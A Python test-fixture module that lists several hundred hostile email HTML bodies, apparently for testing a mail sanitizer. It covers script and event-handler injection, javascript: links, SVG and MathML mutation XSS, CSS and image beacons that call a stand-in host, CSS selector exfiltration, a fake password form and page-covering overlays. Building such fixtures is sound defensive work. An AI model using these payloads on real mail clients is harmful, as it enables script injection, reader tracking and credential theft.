"""Bodies of mail that try to run something, to call home, or to draw outside of their frame.

`RUN` stands for a script that shows that it ran, `HOME` for an address whose owner would learn of a reader. Each name
says the way that is tried.
"""

from __future__ import annotations

RUN = "alert(1)"
HOME = "https://e.test/@"


def _spelled(text: str) -> str:
    return "".join(f"&#x{ord(char):x};" for char in text)


SCRIPTS = {
    "script": "<script>RUN</script>",
    "script-src": "<script src='HOME'></script>",
    "script-upper": "<SCRIPT>RUN</SCRIPT >",
    "script-slash": "<script/x>RUN</script>",
    "script-nested": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script-nul": "<scr\x00ipt>RUN</scr\x00ipt>",
    "script-newline": "<script\n>RUN</script\n>",
    "script-module": "<script type=module>import 'HOME'; RUN</script>",
    "script-importmap": "<script type=importmap>{\"imports\": {\"a\": \"HOME\"}}</script>",
    "script-unclosed": "<script>RUN",
    "script-comment": "<!--><script>RUN</script>-->",
    "script-comment-bang": "<!--!><script>RUN</script>--!>",
    "script-cdata": "<![CDATA[<script>RUN</script>]]>",
    "script-xml": "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
    "script-conditional": "<!--[if gte mso 9]><script>RUN</script><![endif]-->",
    "script-in-title": "<title><script>RUN</script></title>",
    "script-in-textarea": "<textarea></textarea><script>RUN</script>",
    "script-utf7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "script-fullwidth": "＜script＞RUN＜/script＞",
    "script-entities": "&lt;script&gt;RUN&lt;/script&gt;",
    "speculation-rules": '<script type=speculationrules>{"prefetch":[{"urls":["HOME"]}]}</script>',
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
    "noembed": "<noembed><img title=\"</noembed><img src=x onerror=RUN>\"></noembed>",
    "noframes": "<noframes><img title=\"</noframes><img src=x onerror=RUN>\"></noframes>",
    "xmp": "<xmp><img title=\"</xmp><img src=x onerror=RUN>\"></xmp>",
    "plaintext": "<plaintext><script>RUN</script>",
    "listing": "<listing>&lt;img onerror=RUN src=x&gt;</listing>",
    "template": "<template><script>RUN</script></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    "slot": "<slot onslotchange=RUN><b>x</b></slot>",
    "portal": "<portal src='HOME' onload=RUN></portal>",
    "fencedframe": "<fencedframe src='HOME'></fencedframe>",
    "custom-element": "<x-y onclick=RUN is=script>RUN</x-y>",
    "is-script": "<div is=script>RUN</div>",
    "import-html": "<link rel=import href='HOME'>",
}  # fmt: skip

HANDLERS = {
    f"on-{event}-{tag}": f"<{tag} {more} on{event}=RUN>x</{tag}>"
    for event, tag, more in (
        ("error", "img", "src=x"), ("load", "img", "src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="),
        ("load", "body", ""), ("pageshow", "body", ""), ("hashchange", "body", ""), ("message", "body", ""),
        ("focus", "input", "autofocus"), ("focus", "button", "autofocus"), ("focus", "select", "autofocus"),
        ("focus", "textarea", "autofocus"), ("focus", "div", "tabindex=1 id=m-focus autofocus"),
        ("focusin", "a", "href=# autofocus"), ("toggle", "details", "open"), ("start", "marquee", ""),
        ("animationstart", "div", "style='animation:a 1s'"), ("animationend", "p", "style='animation-duration:1ms'"),
        ("transitionend", "p", "style='transition:color 1ms;color:red'"), ("scroll", "div", "style='overflow:auto'"),
        ("canplay", "video", "src=HOME"), ("error", "video", "src=x"), ("loadstart", "audio", "src=HOME"),
        ("error", "audio", "src=x"), ("load", "iframe", "src=about:blank"), ("load", "object", "data=data:text/html,x"),
        ("error", "object", "data=x"), ("load", "embed", "src=data:text/html,x"), ("load", "link", "rel=stylesheet href=HOME"),
        ("error", "link", "rel=stylesheet href=x"), ("load", "style", ""), ("readystatechange", "xml", ""),
        ("propertychange", "p", ""), ("beforematch", "p", "hidden=until-found"), ("contentvisibilityautostatechange", "p",
         "style='content-visibility:auto'"), ("securitypolicyviolation", "p", "style='background:url(HOME)'"),
        ("pointerrawupdate", "p", ""), ("beforetoggle", "p", "popover"), ("wheel", "p", ""), ("copy", "p", ""),
    )
} | {
    "handler-slashes": "<img/src=x/onerror=RUN>",
    "handler-quotes": "<img src='x'onerror='RUN'>",
    "handler-upper": "<IMG SRC=x ONERROR=RUN>",
    "handler-backtick": "<img src=`x` onerror=`RUN`>",
    "handler-formfeed": "<img\x0csrc=x\x0conerror=RUN>",
    "handler-entities": f"<img src=x onerror='{_spelled(RUN)}'>",
    "handler-in-attribute": "<a title='\"><img src=x onerror=RUN>'>x</a>",
    "handler-unclosed-tag": "<img src=x onerror=RUN ",
    "handler-double": "<img src=x alt=1 alt=2 onerror=RUN onerror=2>",
    "handler-greater-in-value": "<img alt='a>b' src=x onerror=RUN>",
    "handler-namespaced": "<img src=x xlink:onerror=RUN x:onerror=RUN onerror=RUN>",
}  # fmt: skip

LINKS = {
    f"link-{name}": f"<a href=\"{address}\" id=m-go>x</a>"
    for name, address in {
        "javascript": "javascript:RUN", "javascript-upper": "JaVaScRiPt:RUN", "javascript-tab": "java\tscript:RUN",
        "javascript-newline": "java\nscript:RUN", "javascript-control": "\x01javascript:RUN",
        "javascript-space": " &#14;  javascript:RUN", "javascript-entity": "&#106;avascript:RUN",
        "javascript-entity-long": "&#0000106avascript:RUN", "javascript-colon": "javascript&colon;RUN",
        "javascript-newline-entity": "java&NewLine;script&Tab;:RUN", "vbscript": "vbscript:RUN", "data-html":
        "data:text/html,<script>RUN</script>", "data-svg": "data:image/svg+xml,<svg onload='RUN' xmlns='http://www.w3.org/2000/svg'/>",
        "blob": "blob:https://localhost/1", "view-source": "view-source:javascript:RUN", "filesystem": "filesystem:RUN",
        "intent": "intent://x#Intent;scheme=javascript;end", "file": "file:///etc/passwd", "protocol-relative": "//e.test/@",
        "ftp": "ftp://e.test/@", "unicode-dot": "javascript：RUN", "parent-path": "/auth/logout", "fragment": "#/settings",
    }.items()
} | {
    "link-ping": "<a href='https://example.com/' ping='HOME'>x</a>",
    "link-target-top": "<a href='https://example.com/' target=_top>x</a>",
    "link-download": "<a href='data:text/html,x' download='x.html'>x</a>",
    "link-attribution": "<a href='https://example.com/' attributionsrc='HOME'>x</a>",
    "area": "<img usemap=#m src=x><map name=m><area shape=default href='javascript:RUN'></map>",
    "form-action": "<form action='javascript:RUN'><input type=submit id=m-go></form>",
    "form-home": "<form action='HOME'><input name=password autofocus><button>로그인</button></form>",
    "formaction": "<form id=f></form><button form=f formaction='javascript:RUN'>x</button>",
    "isindex": "<isindex action='javascript:RUN' type=image>",
    "base-href": "<base href='HOME/'><a href='x'>x</a><img src='y'>",
    "base-target": "<base target=_top><a href='https://example.com/'>x</a>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=HOME'>",
    "meta-refresh-script": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content='img-src *; report-uri HOME'>",
    "meta-cookie": "<meta http-equiv=Set-Cookie content='smartmail=1'>",
    "meta-charset": "<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-RUN+AD4-",
}  # fmt: skip

DRAWINGS = {
    "svg-onload": "<svg onload=RUN></svg>",
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-script-href": "<svg><script href='HOME'></script></svg>",
    "svg-script-xlink": "<svg><script xlink:href='data:,RUN'></script></svg>",
    "svg-animate": "<svg><a xlink:href='#'><animate attributeName=href values='javascript:RUN'/><text y=9>x</text></a></svg>",
    "svg-set": "<svg><set attributeName=onmouseover to=RUN /></svg>",
    "svg-animate-begin": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg-use": "<svg><use href='HOME#x'/></svg>",
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x\"/></svg>",
    "svg-image": "<svg><image href='HOME' onload=RUN /></svg>",
    "svg-feimage": "<svg><filter id=m-f><feImage href='HOME'/></filter></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "svg-foreign-iframe": "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
    "svg-handler": "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler></svg>",
    "svg-style": "<svg><style>@import 'HOME';</style></svg>",
    "svg-title": "<svg><title><img src=x onerror=RUN></title></svg>",
    "svg-desc": "<svg><desc><img src=x onerror=RUN></desc></svg>",
    "svg-in-img": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='HOME'/></svg>\">",
    "svg-in-object": "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\"></object>",
    "svg-pattern": "<svg><rect fill='url(HOME#p)' width=9 height=9 /></svg>",
    "math-href": "<math><mi href='javascript:RUN'>x</mi></math>",
    "math-maction": "<math><maction actiontype=statusline#HOME xlink:href='javascript:RUN'>x</maction></math>",
    "math-annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    "mutation-math-style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "mutation-form-math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "mutation-svg-style": "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
    "mutation-svg-title-style": "<svg><desc><style><!--</style><a title=\"--><img src=1 onerror=RUN>\">",
    "mutation-table": "<table><caption><svg><title><table><style><!--</style></title><img src=1 onerror=RUN>",
    "mutation-select": "<select><template><img src=x onerror=RUN></template><style></select><img src=x onerror=RUN>",
    "mutation-noscript": "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
    "mutation-comment": "<!-- --!><img src=x onerror=RUN> -->",
    "mutation-comment-dash": "<!-- --\x21 ><img src=x onerror=RUN> -->",
    "mutation-attribute": "<img alt=\"``onerror=RUN\" src=x>",
    "mutation-entity": "<p title='&quot;&gt;&lt;img src=x onerror=RUN&gt;'>x</p>",
    "mutation-deep": "<div>" * 600 + "<table><svg><style><img src=x onerror=RUN></style></svg></table>" + "</div>" * 600,
    "mutation-formatting": "<b><i><u>" * 60 + "<p><a><img src=x onerror=RUN>",
    "clobber-body": "<img name=body><form id=body name=documentElement><input name=attributes id=children></form>",
    "clobber-ids": "<a id=app></a><a id=ran href='x:y'></a><img id=main name=cookie>",
}  # fmt: skip

CALLS_HOME = {
    f"home-{name}": text
    for name, text in {
        "img": "<img src='HOME'>", "img-http": "<img src='http://e.test/@'>",
        "img-relative": "<img src='//e.test/@'>", "img-backslash": "<img src='\\\\e.test\\@'>",
        "img-lowsrc": "<img lowsrc='HOME' dynsrc='HOME'>", "img-srcset": "<img srcset='HOME 1x, HOME 2x'>",
        "picture": "<picture><source srcset='HOME'><img></picture>", "image-tag": "<image src='HOME'>",
        "input-image": "<input type=image src='HOME'>", "background": "<table background='HOME'><tr><td background='HOME'>x</table>",
        "body-background": "<body background='HOME'>x</body>", "longdesc": "<img longdesc='HOME' src=x>",
        "poster": "<video poster='HOME'></video>", "video": "<video src='HOME' autoplay muted></video>",
        "video-source": "<video autoplay><source src='HOME'></video>", "track": "<video><track src='HOME' default></video>",
        "audio": "<audio src='HOME' autoplay></audio>", "bgsound": "<bgsound src='HOME'>", "embed": "<embed src='HOME'>",
        "object": "<object data='HOME'></object>", "object-param": "<object><param name=movie value='HOME'></object>",
        "applet": "<applet code=x codebase='HOME'></applet>", "iframe": "<iframe src='HOME'></iframe>",
        "iframe-srcdoc": "<iframe srcdoc=\"<img src='HOME'><script>RUN</script>\"></iframe>", "frame": "<frameset><frame src='HOME'></frameset>",
        "link-css": "<link rel=stylesheet href='HOME'>", "link-prefetch": "<link rel=prefetch href='HOME'>",
        "link-preload": "<link rel=preload as=image href='HOME'>", "link-dns": "<link rel=dns-prefetch href='HOME'>",
        "link-preconnect": "<link rel=preconnect href='HOME'>", "link-icon": "<link rel=icon href='HOME'>",
        "link-manifest": "<link rel=manifest href='HOME'>", "link-prerender": "<link rel=prerender href='HOME'>",
        "html-manifest": "<html manifest='HOME'>x</html>", "blockquote-cite": "<blockquote cite='HOME'>x</blockquote>",
        "style-import": "<style>@import url(HOME);</style>", "style-import-string": "<style>@import 'HOME';</style>",
        "style-import-escape": "<style>@\\69mport 'HOME';</style>", "style-font": "<style>@font-face{font-family:a;src:url(HOME)}p{font-family:a}</style>x",
        "style-background": "<p style='background:url(HOME)'>x</p>", "style-escape": "<p style='background:\\75rl(HOME)'>x</p>",
        "style-comment": "<p style='background:u/**/rl(HOME);background:url/**/(HOME)'>x</p>",
        "style-list": "<ul style='list-style:url(HOME)'><li>x</ul>", "style-content": "<style>p::before{content:url(HOME)}</style><p>x</p>",
        "style-cursor": "<p style='cursor:url(HOME),auto'>x</p>", "style-border-image": "<p style='border-image:url(HOME) 1'>x</p>",
        "style-mask": "<p style='-webkit-mask:url(HOME);mask-image:url(HOME)'>x</p>", "style-clip": "<p style='clip-path:url(HOME#x)'>x</p>",
        "style-filter": "<p style='filter:url(HOME#x)'>x</p>", "style-shape": "<p style='float:left;shape-outside:url(HOME)'>x</p>",
        "style-image-set": "<p style='background-image:image-set(\"HOME\" 1x)'>x</p>", "style-cross-fade":
        "<p style='background:-webkit-cross-fade(url(HOME),url(HOME),50%)'>x</p>", "style-var":
        "<p style='--a:url(HOME);background:var(--a)'>x</p>", "style-paint": "<p style='background:paint(x),url(HOME)'>x</p>",
        "style-namespace": "<style>@namespace x url(HOME);</style>", "style-charset": "<style>@charset 'utf-7';@import 'HOME';</style>",
        "style-exfiltration": "<style>a[href^='https'] {background:url(HOME)} [id]{background-image:url(HOME)}</style><a href='https://example.com/'>x</a>",
        "style-supports": "<style>@supports(display:grid){p{background:url(HOME)}}</style><p>x</p>",
        "style-layer": "<style>@layer a{p{background:url(HOME)}} @container (width>1px){p{background:url(HOME)}}</style><p>x</p>",
        "style-nested": "<style>p{&:hover,&{background:url(HOME)}}</style><p>x</p>", "style-scope": "<style>@scope(body){p{background:url(HOME)}}</style><p>x</p>",
        "style-property": "<style>@property --a{syntax:'<image>';inherits:true;initial-value:url(HOME)}p{background:var(--a)}</style><p>x</p>",
        "style-unclosed": "<style>p{background:url(HOME)", "style-brace": "<p style='}p{background:url(HOME)}x{'>x</p>",
        "style-expression": "<p style='width:expression(RUN)'>x</p>", "style-behavior": "<p style='behavior:url(HOME)'>x</p>",
        "style-binding": "<p style='-moz-binding:url(HOME#x)'>x</p>", "style-javascript": "<p style='background:url(javascript:RUN)'>x</p>",
        "style-attribute-quote": "<p style=\"background:url('HOME')\">x</p>", "style-nul": "<p style='background:u\x00rl(HOME)'>x</p>",
        "style-src": "<p style='background:src(\"HOME\")'>x</p>", "xml-stylesheet": "<?xml-stylesheet href='HOME'?>x",
        "xinclude": "<x:include href='HOME' xmlns:x='http://www.w3.org/2001/XInclude'/>", "vml": "<v:fill src='HOME' xmlns:v='urn:schemas-microsoft-com:vml'/>",
        "v-imagedata": "<!--[if vml]><v:imagedata src='HOME'/><![endif]-->", "cid-trick": "<img src='cid:@\"><img src=HOME>'>",
    }.items()
}  # fmt: skip

COVERS = {
    "cover-fixed": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>다시 로그인하십시오</div>",
    "cover-absolute": "<div style='position:absolute;top:-500px;left:-500px;width:3000px;height:3000px;background:#fff'>x</div>",
    "cover-sticky": "<div style='position:sticky;top:0'>x</div>",
    "cover-negative": "<div style='margin:-900px 0 0 -900px;width:3000px;height:3000px;background:red'>x</div>",
    "cover-transform": "<div style='transform:scale(50) translate(-50%,-50%)'>x</div>",
    "cover-sheet": "<style>*{position:fixed!important;inset:0!important} html,body{position:fixed;z-index:9}</style><p>x</p>",
    "cover-host": "<style>:host{display:none} :root{display:none} iframe,article,main{display:none!important}</style><p>x</p>",
    "cover-dialog": "<dialog open style='position:fixed;inset:0'>비밀번호 <input></dialog>",
    "cover-popover": "<div popover=manual id=m-p>x</div><button popovertarget=m-p>x</button>",
    "cover-tall": "<div style='height:90000000px'>x</div>",
    "cover-viewport": "<div style='height:100vh;min-height:100vh'>x</div>" * 20,
    "cover-zoom": "<div style='zoom:9999'>x</div>",
    "cover-bidi": "<p>\u202e\u2067moc.knab\u2069 <a href='https://example.com/'>\u202emoc.elpmaxe\u202c</a></p>",
    "cover-table": "<table>" * 400 + "x",
    "cover-span": "<table><col span=99999999><tr><td colspan=99999999 rowspan=99999999>x</table>",
    "cover-ragged": "<table><tr>" + "<td>x" * 2000 + "<tr><td>x" * 2000 + "</table>",
    "cover-reach": "<table>" + "<tr><td rowspan=60000>x" * 2000 + "</table>",
    "cover-entities": "&nbsp;" * 20_000,
    "cover-attributes": f"<p {' '.join(f'a{n}=1' for n in range(5000))}>x</p>",
}  # fmt: skip

HOSTILE: dict[str, str] = SCRIPTS | HANDLERS | LINKS | DRAWINGS | CALLS_HOME | COVERS
"""Body by the way that it tries."""


def body_of(name: str) -> str:
    """Return the whole HTML of one."""
    body = HOSTILE[name].replace("RUN", RUN).replace("HOME", HOME).replace("@", name)
    return f"<html><body><p>{name}</p>{body}</body></html>"
